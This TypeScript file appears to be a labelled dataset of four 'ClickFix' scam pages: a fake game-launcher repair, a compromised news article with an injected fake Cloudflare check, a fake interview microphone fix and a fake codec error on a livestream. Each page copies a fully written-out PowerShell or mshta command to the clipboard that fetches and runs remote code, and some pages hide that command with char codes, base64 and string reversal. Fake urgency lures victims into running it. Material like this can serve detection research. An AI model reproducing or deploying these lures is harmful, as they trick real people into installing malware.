import { type Entry } from '../entry.js';
import { page, b64, charCodes } from '../parts/yw-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  (() => {
    const cmd = `cmd /c start /min powershell -nop -ep bypass -c "$u='https://mlbb-launcher.fixhub.gg/fix/0x80070643';iex (irm $u)"`;
    return {
      id: 'yw-clickfix-ml-launcher-error-fix',
      label: 'clickfix',
      kind: 'clickfix-fix-it',
      url: 'https://mlbb-launcher.fixhub.gg/help/error-0x80070643',
      body: page({
        title: 'MLBB PC Launcher — Fix error 0x80070643 (Launcher won\'t start)',
        css: `body{font-family:"Segoe UI",Arial,sans-serif;background:#0b1026;color:#e3e8ff}.h{background:linear-gradient(90deg,#1a237e,#4a148c);padding:16px 20px;font-weight:bold;font-size:18px}.w{max-width:720px;margin:0 auto;padding:20px}.er{background:#2a0f1f;border:1px solid #ff5277;border-radius:8px;padding:12px}.cmd{display:flex;gap:8px;align-items:center;background:#000;border-radius:8px;padding:12px;font-family:Consolas,monospace;font-size:13px;margin:12px 0;overflow:hidden}.cmd code{flex:1;white-space:nowrap;overflow:hidden;text-overflow:ellipsis}.cp{background:#4caf50;border:0;color:#fff;border-radius:6px;padding:8px 14px;font-weight:bold;cursor:pointer}ol li{margin:8px 0}`,
        body: `<div class="h">🎮 MLBB PC Launcher Support</div>
<div class="w"><div class="er"><b>Launcher error 0x80070643:</b> The game engine (Unity runtime) could not be verified. Mobile Legends: Bang Bang PC cannot start.</div>
<h2>Quick fix (1 minute)</h2><p>This error happens when the Windows anti-cheat cache is corrupted after an update. Run the official repair command below:</p>
<ol><li>Click <b>Copy fix</b>.</li><li>Press <b>Windows key + R</b> to open Run.</li><li>Paste with <b>Ctrl + V</b> and press <b>Enter</b>. A window may appear briefly — this is normal.</li><li>Restart the launcher. Your diamonds and skins are safe.</li></ol>
<div class="cmd"><code id="c">cmd /c start /min powershell -nop -ep bypass -c "…repair anti-cheat cache…"</code><button class="cp" id="b">Copy fix</button></div>
<p style="font-size:13px;color:#9aa3c7">Still not working? Join our Discord for live support.</p></div>
<script>document.getElementById('b').onclick=function(){navigator.clipboard.writeText(${JSON.stringify(cmd)});this.textContent='Copied ✓';};</script>`,
      }),
    } satisfies Entry;
  })(),
  (() => {
    const host = 'www.balitangbayan-online.com';
    const cmd = 'mshta https://cdn-jsdelivr.cloud-verify.icu/captcha.hta # I am not a robot - Cloudflare Verification ID: 7719-2204';
    return {
      id: 'yw-clickfix-compromised-news-turnstile',
      label: 'clickfix',
      kind: 'clickfix-injected-overlay',
      url: `https://${host}/2025/11/presyo-ng-bigas-bababa-sa-disyembre/`,
      body: page({
        title: 'Presyo ng bigas, bababa sa Disyembre — DA | Balitang Bayan',
        lang: 'fil',
        css: 'body{font-family:Georgia,serif;background:#fff;color:#222}.mast{border-bottom:3px solid #b71c1c;padding:12px 20px;font-family:Arial;font-weight:bold;font-size:22px;color:#b71c1c}.art{max-width:720px;margin:0 auto;padding:20px;line-height:1.7}.by{font-family:Arial;font-size:13px;color:#777}',
        body: `<div class="mast">BALITANG BAYAN</div>
<div class="art"><h1>Presyo ng bigas, bababa sa Disyembre — DA</h1><div class="by">Ni Liza Marquez · Nobyembre 12, 2025</div>
<p>Inaasahang bababa ang presyo ng imported at lokal na bigas sa mga pamilihan sa Metro Manila pagsapit ng Disyembre, ayon sa Department of Agriculture (DA), kasabay ng pagdating ng mga bagong ani mula sa Nueva Ecija at Isabela.</p>
<p>Sinabi ng DA na magpapatuloy ang pagbebenta ng ₱29 kada kilo na bigas sa mga Kadiwa stores para sa mga senior citizen, PWD, solo parents at 4Ps beneficiaries.</p>
<p>Samantala, nanawagan ang mga grupo ng magsasaka na bantayan ang farmgate price ng palay upang hindi malugi ang mga lokal na magsasaka.</p></div>
<script src="/wp-content/plugins/wp-cache-optimizer/assets/js/cache.min.js?ver=3.1.4"></script>`,
      }),
      routes: {
        [`${host}/wp-content/plugins/wp-cache-optimizer/assets/js/cache.min.js`]: jsRoute(
          `(function(){if(localStorage.getItem('_cfv')||/bot|crawl|spider/i.test(navigator.userAgent))return;var c=String.fromCharCode(${charCodes(cmd)});var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fafafa;z-index:2147483647;display:flex;align-items:center;justify-content:center;font-family:-apple-system,Segoe UI,Arial,sans-serif';o.innerHTML='<div style="width:420px;background:#fff;border:1px solid #ddd;border-radius:6px;padding:22px;box-shadow:0 2px 10px rgba(0,0,0,.08)"><h2 style="margin:0 0 8px;font-weight:500">'+location.hostname+'</h2><p style="color:#555">Verify you are human by completing the action below.</p><label id="_cb" style="display:flex;gap:10px;align-items:center;border:1px solid #ccc;padding:14px;border-radius:4px;cursor:pointer"><input type="checkbox"> Verify you are human</label><div id="_st" style="display:none;margin-top:14px;font-size:14px;line-height:1.7"><b>Verification steps</b><br>1. Press Windows Button + R<br>2. Press CTRL + V<br>3. Press Enter</div><p style="font-size:11px;color:#999;margin-top:16px">Performance &amp; security by Cloudflare</p></div>';document.documentElement.appendChild(o);document.getElementById('_cb').addEventListener('click',function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('_st').style.display='block';setTimeout(function(){localStorage.setItem('_cfv','1');},60000);});})();`,
        ),
      },
    } satisfies Entry;
  })(),
  (() => {
    const ps = "$ProgressPreference='SilentlyContinue';$d=\"$env:APPDATA\\AudioFix\";ni $d -ItemType Directory -Force|Out-Null;iwr 'https://audiofix.viameet-support.com/mic/AudioFix.zip' -OutFile \"$d\\a.zip\";Expand-Archive \"$d\\a.zip\" $d -Force;Start-Process \"$d\\AudioFix.exe\"";
    const cmd = 'powershell -NoProfile -WindowStyle Hidden -EncodedCommand ' + Buffer.from(ps, 'utf16le').toString('base64');
    return {
      id: 'yw-clickfix-interview-mic-fix-admin',
      label: 'clickfix',
      kind: 'clickfix-fix-it',
      url: 'https://audiofix.viameet-support.com/interview/774-201-3382/mic-error',
      body: page({
        title: 'Microphone blocked — ViaMeet Interview',
        css: `body{font-family:"Segoe UI",Arial,sans-serif;background:#1c1f2e;color:#fff}.c{max-width:560px;margin:40px auto;background:#262a3d;border-radius:14px;padding:26px}.vid{height:200px;border-radius:10px;background:#10121c;display:flex;align-items:center;justify-content:center;color:#888;margin-bottom:16px}.er{color:#ff8a80;font-weight:bold}.st{background:#1c1f2e;border-radius:10px;padding:14px}.st li{margin:8px 0}.bt{background:#4f7cff;border:0;border-radius:8px;color:#fff;padding:12px 24px;font-weight:bold;cursor:pointer}`,
        body: `<div class="c"><div class="vid">🎥 Mr. Khalid A. (Employer) is waiting in the interview room…</div><p class="er">⚠ Your microphone and camera are blocked by a Windows audio driver conflict (Error 0xC00D36B4).</p><p>The employer cannot hear you. Please apply the ViaMeet audio fix now — your interview slot will be given to the next applicant in 5 minutes.</p>
<div class="st"><ol><li>Click <b>Copy audio fix</b> below.</li><li>Press <b>Windows + X</b> and choose <b>Terminal (Admin)</b> or <b>Windows PowerShell (Admin)</b>.</li><li>Right-click inside the window to paste, then press <b>Enter</b>.</li><li>Return to this page and click <b>Rejoin</b>.</li></ol><button class="bt" id="cp">Copy audio fix</button> <button class="bt" style="background:#444a63" onclick="location.reload()">Rejoin</button></div></div>
<script>document.getElementById('cp').addEventListener('click',function(){navigator.clipboard.writeText(${JSON.stringify(cmd)}).then(function(){document.getElementById('cp').textContent='Copied — now paste in PowerShell (Admin)';});});</script>`,
      }),
    } satisfies Entry;
  })(),
  (() => {
    const host = 'sabong-tv.livestream-ph.xyz';
    const inner = "$s='https://codec.livestream-ph.xyz/p/hevc';$r=Invoke-RestMethod $s;Invoke-Expression $r";
    const cmd = `powershell -w 1 -c "$x=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64(inner)}'));iex $x"`;
    const enc = b64(cmd).split('').reverse().join('');
    return {
      id: 'yw-clickfix-sabong-stream-codec',
      label: 'clickfix',
      kind: 'clickfix-player-error',
      url: `https://${host}/live/world-slasher-cup-day3`,
      body: page({
        title: 'World Slasher Cup Day 3 — LIVE | Sabong TV',
        css: `body{font-family:Arial,sans-serif;background:#111;color:#eee}.pl{max-width:800px;margin:20px auto;aspect-ratio:16/9;background:#000;position:relative;display:flex;align-items:center;justify-content:center}.pl .e{background:rgba(20,20,20,.95);border:1px solid #444;border-radius:8px;padding:20px;max-width:440px;font-size:14px}.pl .e b{color:#ff5252}.bt{background:#ff5252;border:0;color:#fff;padding:10px 20px;border-radius:4px;font-weight:bold;cursor:pointer}.chat{max-width:800px;margin:0 auto;font-size:13px;color:#aaa}`,
        body: `<div class="pl"><div class="e" id="e"><b>Playback error: HEVC codec missing (0x887A0005)</b><p>Your browser cannot decode this HD stream. Install the free HEVC video extension to continue watching.</p><ol><li>Click <b>Fix playback</b></li><li>Press <b>Win + R</b></li><li>Press <b>Ctrl + V</b> then <b>Enter</b></li></ol><button class="bt" id="fx">Fix playback</button></div></div>
<div class="chat">💬 kuya_jun: meron ako dito 🔥 · ate_lyn: ayaw mag-play sakin, nag-fix na ako ok na · boss_r: wala lodi 500</div>
<script src="/live/assets/player.js"></script>`,
      }),
      routes: {
        [`${host}/live/assets/player.js`]: jsRoute(
          `var _0x=['${enc.slice(0, 120)}','${enc.slice(120)}'];function _r(){return atob(_0x.join('').split('').reverse().join(''));}document.getElementById('fx').addEventListener('click',function(){var t=_r();if(navigator.clipboard){navigator.clipboard.writeText(t);}else{var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();}this.textContent='Copied! Now press Win+R';});`,
        ),
      },
    } satisfies Entry;
  })(),
];
